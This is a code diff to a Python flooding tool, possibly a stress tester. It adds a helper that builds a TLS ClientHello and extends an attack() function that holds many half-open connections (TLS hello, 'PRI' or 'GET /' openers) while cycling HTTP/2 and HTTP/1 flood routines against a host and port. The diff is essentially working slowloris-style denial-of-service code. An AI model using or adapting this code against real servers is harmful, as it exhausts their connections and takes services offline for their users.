@@ -199,6 +199,15 @@ FLOODS: dict[str, Flood] = {
 }
 
 
+def client_hello() -> bytes:
+    """The first TLS record that a client sends."""
+    to_send = ssl.MemoryBIO()
+    opening = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), to_send, server_hostname="a")
+    with suppress(ssl.SSLWantReadError):
+        opening.do_handshake()
+    return to_send.read()
+
+
 def attack(
     kind: str,
     address: str,
@@ -210,22 +219,25 @@ def attack(
 ) -> None:
     """Floods a port for so long: connects, sends a flood for 3 s, and begins with the next.
 
-    kind: "http2", "http", or another protocol: then only connections that do nothing. turn: the
-    first one.
+    kind: "http2", "http", or another protocol: then only connections that do nothing, or with TLS
+    nothing after a hello. turn: the first one.
     """
     end = time.monotonic() + seconds
     others = FLOODS if kind == "http2" else http1.FLOODS if kind == "http" else ()
-    names = ["silence", *others]
+    begun = {"silence": b"\x16\x03" if ca else b"PRI" if kind == "http2" else b"GET /"}
+    if ca:
+        begun["hellos"] = client_hello()
+    names = [*begun, *others]
     host, _, port = address.rpartition(":")
     held: deque[socket.socket] = deque()
     while time.monotonic() < end:
         turn += 1
         name = names[turn % len(names)]
         with suppress(OSError):
-            if name == "silence":
+            if name in begun:
                 for _ in range(32):
                     idle = socket.create_connection((host, int(port)), 2)
-                    idle.sendall(b"\x16\x03" if ca else b"PRI" if kind == "http2" else b"GET /")
+                    idle.sendall(begun[name])
                     held.append(idle)
                 while len(held) > 64:
                     held.popleft().close()
